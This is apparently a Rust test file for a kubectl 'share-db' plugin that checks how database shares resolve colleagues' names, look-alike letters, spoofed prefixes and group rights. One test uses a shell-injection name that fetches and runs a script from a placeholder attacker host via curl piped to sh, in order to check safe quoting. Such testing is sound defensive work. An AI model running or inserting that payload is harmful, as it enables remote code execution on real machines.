//! Whom a share is with: the colleague who was meant, and what is said of who that is.

use crate::fixtures;
use cli_tests::{ApiServer, Response, Session};
use serde_json::json;

/// What the course writes and people type: all of it means Bob.
#[test]
fn as_people_write_them() {
    let server = ApiServer::start();
    let session = Session::alice(&server);
    let runs = ["bob", "@bob", "oidc-bob", "user-bob"].map(|typed| {
        let run = session.share_db(["pg", "--with", typed]).success();
        assert!(run.stdout.starts_with("bob (user:oidc-bob) may "), "{run}");
        run
    });
    snapshot_all!(runs);
}

/// Letters that look like others are shown as what they are.
#[test]
fn letters_that_look_alike() {
    let server = ApiServer::start();
    let session = Session::alice(&server);
    snapshot!(
        session.share_db(["pg", "--with", "b\u{43e}b"]),
        session.share_db(["pg", "--with", "user:oidc-b\u{43e}b"]),
        session.share_db(["list", "-o", "wide"]),
        session.share_db(["revoke", "pg", "--with", "user:oidc-b\u{43e}b"]),
    );
}

/// RBAC takes any name; a shell gets it back as it was.
#[test]
fn names_that_a_shell_would_read() {
    let server = ApiServer::start();
    let session = Session::alice(&server);
    let names = [
        "user:x;curl${IFS}evil.example|sh",
        "group:cn=all staff,ou=it",
        "user:o'brien",
    ];
    let runs = names.map(|name| session.share_db(["pg", "--with", name]).success());
    snapshot_all!(runs);
}

/// Who a colleague is, is not learned from a name that somebody chose for himself.
#[test]
fn a_prefix_that_a_colleague_made_up() {
    let server = ApiServer::start();
    // From an IDE one's own name is a ServiceAccount's.
    let admin = fixtures::role_binding(
        "user-alice",
        "ide-admin",
        "admin",
        &json!({"kind": "ServiceAccount", "namespace": "user-alice", "name": "vscode"}),
    );
    server.put(admin);
    let view = |role: &str| {
        let mallory = fixtures::user("oidc-mallory-alice");
        fixtures::role_binding("user-alice", "a-colleague", role, &mallory)
    };
    let ide = Session::with_token(&server, "ide-token");
    server.put(view("view"));
    let lesser = ide.share_db(["pg", "--with", "bob", "--dry-run"]);
    server.put(view("admin"));
    snapshot!(lesser, ide.share_db(["pg", "--with", "bob", "--dry-run"]));
}

/// A user's groups are not known: what those give that are bound here is said.
#[test]
fn rights_of_groups() {
    let server = ApiServer::start();
    let team = json!({"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "team"});
    server.put(fixtures::role_binding("user-alice", "team", "edit", &team));
    let session = Session::alice(&server);
    snapshot!(
        session.share_db(["pg", "--with", "bob"]),
        session.share_db(["pg", "--with", "group:team"]),
        session.share_db(["pg", "--with", "sa:user-bob/default"]),
    );
}

/// An answer that depends on conditions is neither a yes nor a no.
#[test]
fn answers_under_conditions() {
    let server = ApiServer::start();
    server.script(|request| {
        let mut answer = request.json();
        let attributes = &answer["spec"]["resourceAttributes"];
        let secrets = attributes["resource"] == "secrets";
        let review = request.path.ends_with("localsubjectaccessreviews");
        if review && secrets {
            answer["status"] =
                json!({"allowed": false, "conditionSetChain": [{"type": "example"}]});
        }
        (review && secrets).then(|| Response::json(201, &answer))
    });
    snapshot!(Session::alice(&server).share_db(["pg", "--with", "bob"]));
}

/// What Bob sends to Alice, from his laptop and from his IDE.
#[test]
fn asking() {
    let server = ApiServer::start();
    let bob = Session::with_token(&server, "bob-token");
    let ide = Session::with_token(&server, "ide-token");
    let asked = bob.share_db(["ask", "user-alice/pg"]).success();
    let command = asked
        .stdout
        .trim()
        .strip_prefix("kubectl share-db ")
        .expect("a command");
    let alice = Session::alice(&server);
    let shared = alice.share_db(command.split(' ')).success();
    let again = bob
        .share_db(["ask", "user-alice/pg", "--for", "2d"])
        .success();
    let forever = bob
        .share_db(["ask", "user-alice/pg", "--forever"])
        .success();
    let from_an_ide = ide.share_db(["ask", "user-carol/pg"]).success();
    let whose = bob.share_db(["ask", "pg"]);
    snapshot!(asked, shared, again, forever, from_an_ide, whose);
}
